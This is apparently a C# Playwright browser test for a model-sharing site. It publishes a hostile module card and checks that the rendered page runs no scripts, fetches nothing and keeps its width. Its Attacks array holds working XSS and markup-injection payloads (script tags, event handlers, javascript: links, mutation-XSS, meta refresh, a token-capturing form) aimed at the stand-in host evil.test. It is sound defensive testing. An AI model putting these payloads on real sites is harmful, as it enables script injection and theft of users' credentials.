using System.Collections.Concurrent;
using System.Text;
using LoraHub.Api.Tests.Support;
using LoraHub.Modules.Versions;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace LoraHub.Web.Tests.Browsing;

/// <summary>A module whose author is hostile, opened in a real browser.</summary>
[Collection<ScriptedService>]
public sealed class HostileCardTests(Chromium chromium, ScriptedService service)
{
    const string Id = "mallory/hostile";

    const string Elements = "script, style, img, svg, math, iframe, object, embed, video, form, input, meta, base, link";

    /// <summary>Each runs <c>boom()</c>, fetches from <c>evil.test</c>, leads there, or widens or covers the page, if it is not made inert.</summary>
    static readonly string[] Attacks =
    [
        "<script>boom()</script>", "<script src=http://evil.test/x.js></script>", "<img src=http://evil.test/x.png onerror=boom()>",
        "![huge](http://evil.test/huge.png)", "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='boom()' width='99999'/>)",
        "<svg width=99999 height=99999 onload=boom()><script>boom()</script><image href=http://evil.test/x.png /></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=boom()&gt;\">",
        "<iframe src=http://evil.test/ srcdoc='<script>parent.boom()</script>'></iframe>", "<object data=http://evil.test/></object>",
        "<embed src=http://evil.test/>", "<video autoplay src=http://evil.test/x.mp4 onerror=boom()></video>",
        "<form action=http://evil.test/><input name=token autofocus onfocus=boom()><button>Sign in</button></form>",
        "<meta http-equiv=refresh content='0;url=http://evil.test/'>", "<base href=http://evil.test/>",
        "<link rel=stylesheet href=http://evil.test/x.css>", "<style>@import 'http://evil.test/x.css'; * { display: none }</style>",
        "<div style='position:fixed;inset:0;width:99999px;background:url(http://evil.test/x.png)' class=notice id=content>x</div>",
        "<details open ontoggle=boom()>x</details>", "<a href='javascript:boom()'>raw</a>", "[plain](javascript:boom())",
        "[entity](&#106;avascript:boom())", "[data](data:text/html,<script>opener.boom()</script>)",
        "[title](http://x.test \"\\\" onclick=\\\"boom()\")",
        "<javascript:boom()>", "[reference]\n\n[reference]: javascript:boom()", "```html\n</code></pre><script>boom()</script>\n```",
        "# heading {onclick=boom()}", "|a|b|\n|-|-|\n|<script>boom()</script>|" + new string('w', 3000) + "|", new string('w', 5000),
        "`" + new string('c', 3000) + "`", "```\n" + new string('p', 3000) + "\n```", "$$\n" + new string('m', 3000) + "\n$$",
    ];

    [Theory]
    [InlineData(360)]
    [InlineData(1440)]
    public async Task Nothing_of_it_runs_or_is_fetched_and_the_page_keeps_its_width(int width)
    {
        await PublishAsync();
        await chromium.VisitAsync(
            service.Address,
            async page =>
            {
                var foreign = new ConcurrentQueue<string>();
                await page.Context.RouteAsync("**/*", route =>
                {
                    if (new Uri(route.Request.Url).Authority == service.Address.Authority)
                    {
                        return route.ContinueAsync();
                    }

                    foreign.Enqueue(route.Request.Url);
                    return route.AbortAsync();
                });
                await page.AddInitScriptAsync("window.boom = () => { window.exploded = true; };");
                await page.OpenAsync($"/modules/{Id}");
                var card = page.Locator(".card");
                await Expect(card).ToContainTextAsync("The end of the card.");
                await AssertLinksLeadNowhereAsync(page, card);

                Assert.False(await page.EvaluateAsync<bool>("() => window.exploded === true"));
                Assert.Empty(foreign);
                Assert.Equal($"/modules/{Id}", new Uri(page.Url).AbsolutePath);
                Assert.Equal(0, await card.Locator(Elements).CountAsync());
                await page.AssertIsNotWidenedAsync();

                await page.OpenAsync("/modules?q=hostile"); // its beginning is the description
                await page.AssertIsNotWidenedAsync();
                Assert.Empty(foreign);
            },
            new() { ViewportSize = new() { Width = width, Height = 900 } });
    }

    /// <summary>Clicks on all of them: only those to other sites are links, and none of those were given.</summary>
    static async Task AssertLinksLeadNowhereAsync(IPage page, ILocator card)
    {
        foreach (var link in await card.Locator("a:not([href^='http'])").AllAsync())
        {
            await link.DispatchEventAsync("click");
        }

        Assert.Equal(0, await card.Locator("a[href^='javascript' i], a[href^='data' i], [onclick]").CountAsync());
        Assert.Single(page.Context.Pages);
    }

    async Task PublishAsync()
    {
        var card = string.Join("\n\n", [.. Attacks, "The end of the card."]);
        using var form = PeftFiles.Form(
            (ModuleFiles.Config, PeftFiles.Config), (ModuleFiles.Weights, PeftFiles.Weights(1, 2)), (ModuleFiles.Card, Encoding.UTF8.GetBytes(card)));
        using var published = await service.Process.Client.PublishAsync(Id, form);
        Assert.True(published.IsSuccessStatusCode, await published.TextAsync()); // the second time it is known
    }
}
